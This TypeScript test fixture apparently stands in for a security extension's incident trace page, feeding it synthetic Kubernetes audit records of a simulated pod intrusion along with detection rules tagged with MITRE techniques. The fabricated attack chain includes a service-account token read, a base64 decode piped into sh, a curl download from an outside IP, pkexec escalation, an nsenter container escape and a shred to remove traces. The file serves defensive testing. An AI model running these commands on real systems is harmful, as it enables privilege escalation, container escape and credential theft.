/** A stand-in for the extension behind the trace page, over records of one incident that the real domain understands. */
import type { AuditEvent, LogRecord } from "../../src/audit/event.ts";
import { eventId, type TraceId } from "../../src/audit/ids.ts";
import { processTree } from "../../src/audit/processTree.ts";
import { readEvent } from "../../src/audit/readEvent.ts";
import { buildTrace, type Trace } from "../../src/audit/trace.ts";
import type { Risk } from "../../src/pages/risk.ts";
import { type FromTrace, readFromTrace, type TraceState } from "../../src/pages/trace.ts";
import { lineDetail, traceState } from "../../src/pages/traceState.ts";
import type { PageOptions, Post } from "./harness.ts";
import { englishTrace } from "./words.ts";

export type ShownTrace = Extract<TraceState, { kind: "trace" }>;

export const incidentId = "7c1f0e2d-5b9a-4c77-9a30-100000700000" as TraceId;
const startMs = Date.UTC(2026, 10, 23, 6, 28, 40, 112);

type Run = {
  /** Seconds after the entry. */
  readonly at: number;
  readonly pid: number;
  readonly parent: number;
  readonly command: string;
  readonly directory?: string;
  readonly uid?: string;
};

const incidentRuns: readonly Run[] = [
  { at: 0.2, pid: 4702, parent: 4690, command: "bash" },
  { at: 6, pid: 4703, parent: 4702, command: "id" },
  { at: 9, pid: 4704, parent: 4702, command: "uname -a" },
  { at: 15, pid: 4705, parent: 4702, command: "ls -la", directory: "/app" },
  { at: 24, pid: 4706, parent: 4702, command: "cat /etc/os-release" },
  { at: 31, pid: 4707, parent: 4702, command: "env", directory: "/app/config" },
  { at: 40, pid: 4708, parent: 4702, command: "grep -ri password .", directory: "/app/config" },
  { at: 15_147, pid: 4711, parent: 4702, command: "cat /var/run/secrets/kubernetes.io/serviceaccount/token" },
  { at: 15_178, pid: 4712, parent: 4702, command: "sh -c echo Y3VybCAtZnNTTCBodHRwOi8vMTk4 | base64 -d | sh" },
  { at: 15_178.2, pid: 4713, parent: 4712, command: "base64 -d" },
  { at: 15_178.4, pid: 4714, parent: 4712, command: "sh" },
  {
    at: 15_179,
    pid: 4715,
    parent: 4714,
    command: "curl -fsSL http://198.51.100.23/d/kw -o /dev/shm/.kw",
    directory: "/tmp",
  },
  { at: 15_181, pid: 4716, parent: 4714, command: "chmod +x /dev/shm/.kw", directory: "/tmp" },
  { at: 15_186, pid: 4720, parent: 4702, command: "pkexec /dev/shm/.kw", uid: "0", directory: "/" },
  { at: 15_187, pid: 4721, parent: 4720, command: "sh -i", uid: "0", directory: "/root" },
  { at: 15_201, pid: 4722, parent: 4721, command: "nsenter -t 1 -m -u -i -n -p -- bash", uid: "0", directory: "/root" },
  { at: 15_240, pid: 4801, parent: 4790, command: "tar czf - /var/lib/app/exports", uid: "0", directory: "/" },
  { at: 15_310, pid: 4730, parent: 4721, command: "shred -u /dev/shm/.kw", uid: "0", directory: "/root" },
];

function recordOf(kind: string, event: string, at: number, more: LogRecord): LogRecord {
  const atMs = startMs + Math.round(at * 1000);
  return {
    __time__: String(Math.floor(atMs / 1000)),
    __source__: "10.0.0.7",
    kind,
    time: new Date(atMs).toISOString(),
    traceId: incidentId,
    eventId: event,
    clusterId: "c8f3a1d27b6e04c19ab5de7f3021c64ff",
    k8s: JSON.stringify({
      user: { aliuid: "208712345678904410", username: "dev-07", groups: ["system:authenticated", "dev-oncall"] },
      pod: { namespace: "payments", name: "api-6f7c9d5b8-k2x4p", labels: { app: "api" } },
      container: { name: "api", image: "registry.example/shop/api:2.14.1" },
    }),
    host: JSON.stringify({ hostIP: "10.0.0.7", nodeName: "cn-hangzhou.10.0.0.7" }),
    ...more,
  };
}

export function commandRecord({ at, pid, parent, command, directory = "/app", uid = "1000" }: Run): LogRecord {
  const name = /^\S*/.exec(command)?.[0] ?? "";
  const parentName = parent === 4702 ? "bash" : parent === 4690 ? "runc" : parent === 4790 ? "containerd-shim" : "sh";
  const process = { name, cmdline: command, cwd: directory, pid, parentPid: parent, parentName, user: { uid } };
  return recordOf("Command", `e-${pid}`, at, { process: JSON.stringify(process) });
}

const entryRecord = recordOf("Kubernetes", "e-entry", 0, {
  kubeObject: JSON.stringify({
    operation: { kind: "PodExec", podExecOptions: { container: "api", command: ["bash"], commandStr: "bash" } },
  }),
});

export const incidentRecords: readonly LogRecord[] = [entryRecord, ...incidentRuns.map(commandRecord)];

const rules: readonly (readonly [RegExp, Risk["severity"], string, string, string])[] = [
  [/serviceaccount\/token/, "high", "sa-token-read", "Reads the token of the pod's service account.", "T1552.001"],
  [/base64 -d \|/, "critical", "decode-and-run", "Runs what it has decoded from base64.", "T1027"],
  [/^curl/, "medium", "vendor-risky-program", "A program of the vendor's list of risky programs.", "T1105"],
  [/^pkexec/, "critical", "privilege-escalation", "Becomes root through pkexec.", "T1548"],
  [/^nsenter/, "critical", "container-escape", "Enters the namespaces of the node.", "T1611"],
  [/^shred/, "high", "tracks-removed", "Overwrites a file so that it cannot be recovered.", "T1070.004"],
];

export function incidentRisk(event: AuditEvent): Risk | undefined {
  if (event.kind !== "command") return undefined;
  const verdicts = rules
    .filter(([pattern]) => pattern.test(event.commandLine))
    .map(([, severity, rule, reason, technique]) => ({ severity, rule, title: rule, reason, mitre: [technique] }));
  const [first] = verdicts;
  return first === undefined ? undefined : { severity: first.severity, verdicts };
}

type TraceOptions = {
  readonly records?: readonly LogRecord[];
  readonly riskOf?: (event: AuditEvent) => Risk | undefined;
  readonly changes?: Partial<ShownTrace>;
  readonly event?: string;
};

/** A trace as the extension shows it, and what answers for its details. */
export function shownTrace({
  records = incidentRecords,
  riskOf = incidentRisk,
  changes = {},
  event = "",
}: TraceOptions = {}): { readonly state: ShownTrace; readonly trace: Trace } {
  const trace = buildTrace(records.map(readEvent));
  if (trace === undefined) throw new Error("A trace has at least one record.");
  const state = traceState({
    id: incidentId,
    trace,
    tree: processTree(trace.commands),
    account: "Sample",
    cluster: "shop-prod",
    searched: { fromMs: startMs - 86_400_000, toMs: startMs + 86_400_000 },
    gaps: [],
    riskOf,
    event: eventId(event),
  });
  return { state: { ...state, ...changes }, trace };
}

export function traceMessage(state: TraceState, locale = "en") {
  const restore = { address: { trace: state.trace } };
  return { kind: "state", state, restore, words: englishTrace, locale, zone: "Asia/Shanghai" };
}

/** Plays the extension: tells the state when the page is ready, then the detail of each line that is selected. */
export function traceHost(state: TraceState, trace?: Trace): Required<Pick<PageOptions, "onMessage">> {
  const tree = trace === undefined ? [] : processTree(trace.commands);
  const answer = async (message: FromTrace, post: Post) => {
    if (message.kind === "ready") await post(traceMessage(state));
    if (message.kind === "select" && trace !== undefined) {
      const detail = lineDetail(trace, tree, message.line);
      if (detail !== undefined) await post({ kind: "detail", detail });
    }
  };
  return {
    onMessage: async (message, post) => {
      const read = readFromTrace(message);
      if (read === undefined) throw new Error(`The page posted what it may not: ${JSON.stringify(message)}`);
      await answer(read, post);
    },
  };
}
